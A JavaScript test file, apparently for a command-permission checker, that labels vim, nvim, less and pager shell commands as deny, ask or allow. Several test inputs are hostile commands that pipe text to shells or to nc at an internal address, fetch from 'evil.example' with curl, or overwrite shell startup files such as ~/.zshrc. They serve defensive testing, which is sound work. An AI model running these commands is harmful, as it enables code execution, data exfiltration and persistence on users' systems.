// Round 51, editors and pagers: an Ex range (/re/, ?re?, a mark, \/, an offset) or :global in front of a `!` command,
// a script source or a write is read once, for settings and for vim run directly; vim's option clusters and nvim -l
// load code; less -o/-O/--log-file (and LESS=-O…) write what less shows; everyday Ex and less commands stay plain.
import t from 'tap';
import { lineTable } from '../helpers/engine.js';

await lineTable(t, {
  'a range or :global in front of a command that runs a program, in an editor setting': [
    ["GIT_EDITOR=\"vim -c '?Signed?w !bash'\" git commit", 'deny'],
    ["EDITOR=\"vim -c \\\"'a,'b w !perl\\\"\" git commit --amend", 'deny'],
    ["GIT_EDITOR=\"vim -c '/x/-1r !id'\" git commit", 'ask'],
    ["GIT_EDITOR=\"nvim -c '/fix/+2so /tmp/p.vim'\" git commit", 'ask'],
    ["GIT_EDITOR=\"vim -c 'g/TODO/w !nc 10.0.0.9 9000'\" git commit", 'deny'],
    ["GIT_EDITOR=\"vim -c '/^$/luafile /var/tmp/a.lua'\" git commit", 'ask'],
    ["MANPAGER=\"vim -c '/NAME/w! /home/user/.zshrc'\" man grep", 'deny'],
    ["GIT_EDITOR=\"vim -c 'set tw=72' -c 'normal! gg'\" git commit", 'allow'],
    ["GIT_EDITOR=\"vim -c '/^#/d' -c 'startinsert!'\" git commit", 'allow'],
    ["GIT_SEQUENCE_EDITOR=\"vim -c '2,\\$s#^pick#squash#' -c x\" git rebase -i HEAD~4", 'allow'],
    ["GIT_EDITOR=\"vim -c 'call cursor(2,1)' -c 'setf gitcommit'\" git commit", 'allow'],
  ],
  'a range in front of a command, vim run directly': [
    ["vim -c '/main/+1w !sh' -c 'q!' src/app.ts", 'deny'],
    ["nvim -c '?end?r !curl -s https://evil.example/x' -c wq notes.md", 'deny'],
    ["vim -es -c 'v/keep/w !python3' -c q data.txt", 'deny'],
    ["vim -c '/x/,$w! ~/.bash_profile' -c q notes.md", 'deny'],
    ["vim -c '\\/w !sh' -c q notes.md", 'deny'],
    ["vim -c '/TODO/' notes.md", 'allow'],
    ["vim -es -c 'g/^\\s*$/d' -c wq notes.md", 'allow'],
  ],
  'vim option clusters and nvim -l load code': [
    ['vim -NXu /var/tmp/rc notes.md', 'ask'],
    ['vim -ZNS /var/tmp/s.vim notes.md', 'ask'],
    ['nvim -ll /var/tmp/init.lua', 'ask'],
    ['nvim --clean --headless -l /var/tmp/job.lua arg1', 'ask'],
    ["GIT_EDITOR='vim -NZu /var/tmp/rc' git commit", 'ask'],
    ["GIT_EDITOR='nvim -l /var/tmp/e.lua' git tag -a v2", 'ask'],
    ["GIT_EDITOR='vim -Xs /var/tmp/keys' git commit", 'ask'],
    ["GIT_EDITOR='emacs --init-directory=/var/tmp/emacs.d' git commit", 'ask'],
    ["GIT_EDITOR=\"kak -e 'echo %sh{id}'\" git commit", 'ask'],
    ['vim -Nu NONE -c q notes.md', 'allow'],
    ['vim -es -c wq notes.md', 'allow'],
    ["GIT_EDITOR='vim -Nn' git commit", 'allow'],
    ["GIT_EDITOR='code --wait --reuse-window' git commit", 'allow'],
  ],
  'less log files write what less shows': [
    ['git log --oneline | less -O ~/.bash_login', 'deny'],
    ['git show | less -RO/home/user/.zprofile', 'deny'],
    ['git log | less -SO ~/.rampart/config.yaml', 'deny'],
    ["LESS='-R -O/home/user/.zshenv' git show HEAD", 'deny'],
    ["LESS='-FRX -O/home/user/.zlogin' git log", 'deny'],
    ["PAGER='less -O /home/user/.bash_login' man tar", 'deny'],
    ['git log | less -O review.log', 'allow'],
    ['less -PM%f README.md', 'allow'],
  ],
  'everyday pager settings': [
    ["GIT_PAGER='less -+S -R' git log", 'allow'],
    ["GIT_PAGER=\"less '+/^diff|^index'\" git show", 'allow'],
    ["PAGER=\"less '+/warn|error'\" man make", 'allow'],
    ["MANPAGER='nvim +Man!' man tar", 'allow'],
    ["MANPAGER='vim -M +MANPAGER -' man tar", 'allow'],
    ["GIT_PAGER=\"less '+!id'\" git log", 'deny'],
    ["PAGER='less +s/home/user/.profile' man ls", 'ask'],
  ],
});
